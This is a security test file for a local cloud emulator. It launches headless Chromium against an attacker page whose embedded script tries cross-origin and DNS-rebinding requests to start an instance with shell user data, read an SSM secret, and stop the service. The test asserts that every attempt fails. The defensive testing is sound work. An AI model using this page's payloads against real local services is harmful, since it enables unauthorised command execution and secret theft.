"""A page that a developer visits, in a real browser, while the embedded cloud runs (Chromium, headless).

The page does what the penetration test of November 2026 did: it starts an instance whose user data writes a file, reads a secret,
stops the cloud by an image. A server that lets every page in shows that the page would: each call reaches it.
"""

import base64
import json
import os
import shutil
import signal
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from hermes_cfn.local import control
from hermes_cfn.local.options import Options

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
PAGE = """<!doctype html><meta charset="utf-8"><script>
const said = {}, targets = TARGETS, form = "application/x-www-form-urlencoded";
const run = "Action=RunInstances&Version=2016-11-15&ImageId=ami-0123456789abcdef0&MinCount=1&MaxCount=1&UserData=USERDATA";
const credential = "AWS4-HMAC-SHA256 Credential=AKIALOCALADMIN000000/20260101/eu-south-2/ec2/aws4_request, SignedHeaders=host, Signature=0";
const within = begin => new Promise(done => { setTimeout(done, 3000); begin(done); });
async function call(name, address, how) {
  try { const answer = await fetch(address, how); said[name] = answer.type + " " + answer.status + " " + (await answer.text()).slice(0, 200); }
  catch (error) { said[name] = "failed"; }
}
(async () => {
  await call("own", "/own", {});
  for (const [name, to] of Object.entries(targets)) {
    await call(name + " simple", to + "/", {method: "POST", body: run, headers: {"Content-Type": form}});
    await call(name + " opaque", to + "/", {method: "POST", mode: "no-cors", body: new Blob([run], {type: form})});
    await call(name + " signed", to + "/", {method: "POST", body: run, headers: {"Content-Type": form, "Authorization": credential}});
    await call(name + " secret", to + "/", {method: "POST", body: '{"Name": "/door/secret", "WithDecryption": true}', headers:
      {"Content-Type": "application/x-amz-json-1.1", "X-Amz-Target": "AmazonSSM.GetParameter", "Authorization": credential.replace("ec2", "ssm")}});
    for (const what of ["status", "stop", "database", "faults", "clock"]) {
      await call(name + " " + what, to + "/_hermes/" + what, {});
      await call(name + " post " + what, to + "/_hermes/" + what, {method: "POST", mode: "no-cors", body: "{}"});
    }
    await within(done => { const image = new Image(); image.onload = image.onerror = done; image.src = to + "/_hermes/stop"; });
    const frame = document.createElement("iframe"); frame.name = "f" + name; document.body.append(frame);
    const typed = document.createElement("form"); typed.method = "post"; typed.action = to + "/"; typed.target = frame.name;
    for (const pair of run.split("&")) { const [key, value] = pair.split("="); const field = document.createElement("input");
      field.name = key; field.value = decodeURIComponent(value); typed.append(field); }
    document.body.append(typed);
    await within(done => { frame.onload = done; HTMLFormElement.prototype.submit.call(typed); });
    await within(done => { new WebSocket(to.replace("http", "ws") + "/_hermes/stop").onclose = done; });
  }
  await fetch("/said", {method: "POST", body: JSON.stringify(said)});
})();
</script>"""


class Server(ThreadingHTTPServer):
    """Serves the attacker's page, or lets every page in and keeps what came."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.page, self.heard, self.said = "", [], threading.Event()
        threading.Thread(target=self.serve_forever, args=(0.05,), daemon=True).start()


class Handler(BaseHTTPRequestHandler):
    def _answer(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
        self.server.heard.append((self.command, self.path, body))
        if self.path == "/said":
            self.server.said.set()
        text = (self.server.page if self.path == "/" and self.server.page else "open").encode()
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", self.headers.get("Origin", "*"))
        self.send_header("Access-Control-Allow-Headers", self.headers.get("Access-Control-Request-Headers", ""))
        self.send_header("Content-Type", "text/html" if self.path == "/" else "text/plain")
        self.send_header("Content-Length", str(len(text)))
        self.end_headers()
        self.wfile.write(text)

    do_GET = do_POST = do_OPTIONS = do_HEAD = _answer

    def log_message(self, *_args) -> None:
        pass


@pytest.fixture
def visited(tmp_path):
    """A cloud with a secret, an attacker's page, an open server beside it, and a browser that visits the page."""
    if CHROMIUM is None:
        pytest.skip("no Chromium on this machine: what a web page can do is not shown (.ci/run installs it)")
    state, marker = tmp_path / "state", tmp_path / "owned"
    endpoint = control.start(state, Options(follow_parent=True)).endpoint
    page, door = Server(), Server()
    port, open_port = endpoint.rpartition(":")[2], door.server_address[1]
    data = base64.b64encode(f"#!/bin/sh\nid > {marker}\n".encode()).decode()
    targets = {"address": endpoint, "name": f"http://localhost:{port}", "rebound": f"http://evil.example:{port}",
               "open": f"http://evil.example:{open_port}"}  # fmt: skip
    page.page = PAGE.replace("TARGETS", json.dumps(targets)).replace(
        "USERDATA", data.replace("+", "%2B").replace("=", "%3D")
    )

    def visit(*flags: str) -> dict[str, str]:
        command = [CHROMIUM, *FLAGS, *flags, f"--user-data-dir={tmp_path / 'profile'}",
                   "--host-resolver-rules=MAP evil.example 127.0.0.1", f"http://evil.example:{page.server_address[1]}/"]  # fmt: skip
        own = {**os.environ, "HOME": str(tmp_path)}
        with (tmp_path / "chromium.log").open("wb") as log:
            browser = subprocess.Popen(command, stdout=log, stderr=log, env=own, start_new_session=True)
        try:
            assert page.said.wait(150), (tmp_path / "chromium.log").read_text()[-2000:]
        finally:
            os.killpg(browser.pid, signal.SIGKILL)
            browser.wait()
        return json.loads(next(body for _, path, body in page.heard if path == "/said"))

    yield state, marker, door, visit
    page.shutdown()
    door.shutdown()
    control.stop(state)


@pytest.mark.parametrize("flags", [(), ("--disable-web-security",)], ids=["as it is", "without its same-origin policy"])
def test_a_page_of_another_origin_does_nothing_and_reads_nothing(visited, flags):
    """Also where the browser would let it read everything and send any header, which is the most that rebinding a name gives."""
    state, marker, door, visit = visited
    from tests import owners

    owners.client(state, "ssm").put_parameter(Name="/door/secret", Value="CANARY", Type="SecureString")
    said = visit(*flags)
    assert said["own"].endswith("200 open"), "the page's own script runs"
    assert {"POST", "GET"} <= {method for method, _, _ in door.heard}
    assert any("Action=RunInstances" in body for _, _, body in door.heard), "the page does call"
    assert any(path == "/_hermes/stop" for _, path, _ in door.heard)
    tried = {name: text for name, text in said.items() if name.partition(" ")[0] in ("address", "name", "rebound")}
    assert len(tried) == 3 * 14
    for name, text in tried.items():
        assert text == "failed" or text.startswith("opaque 0") or " 403 " in text, (name, text)
        assert "CANARY" not in text
    assert control.status(state).running
    assert owners.client(state, "ec2").describe_instances()["Reservations"] == []
    assert not marker.exists()
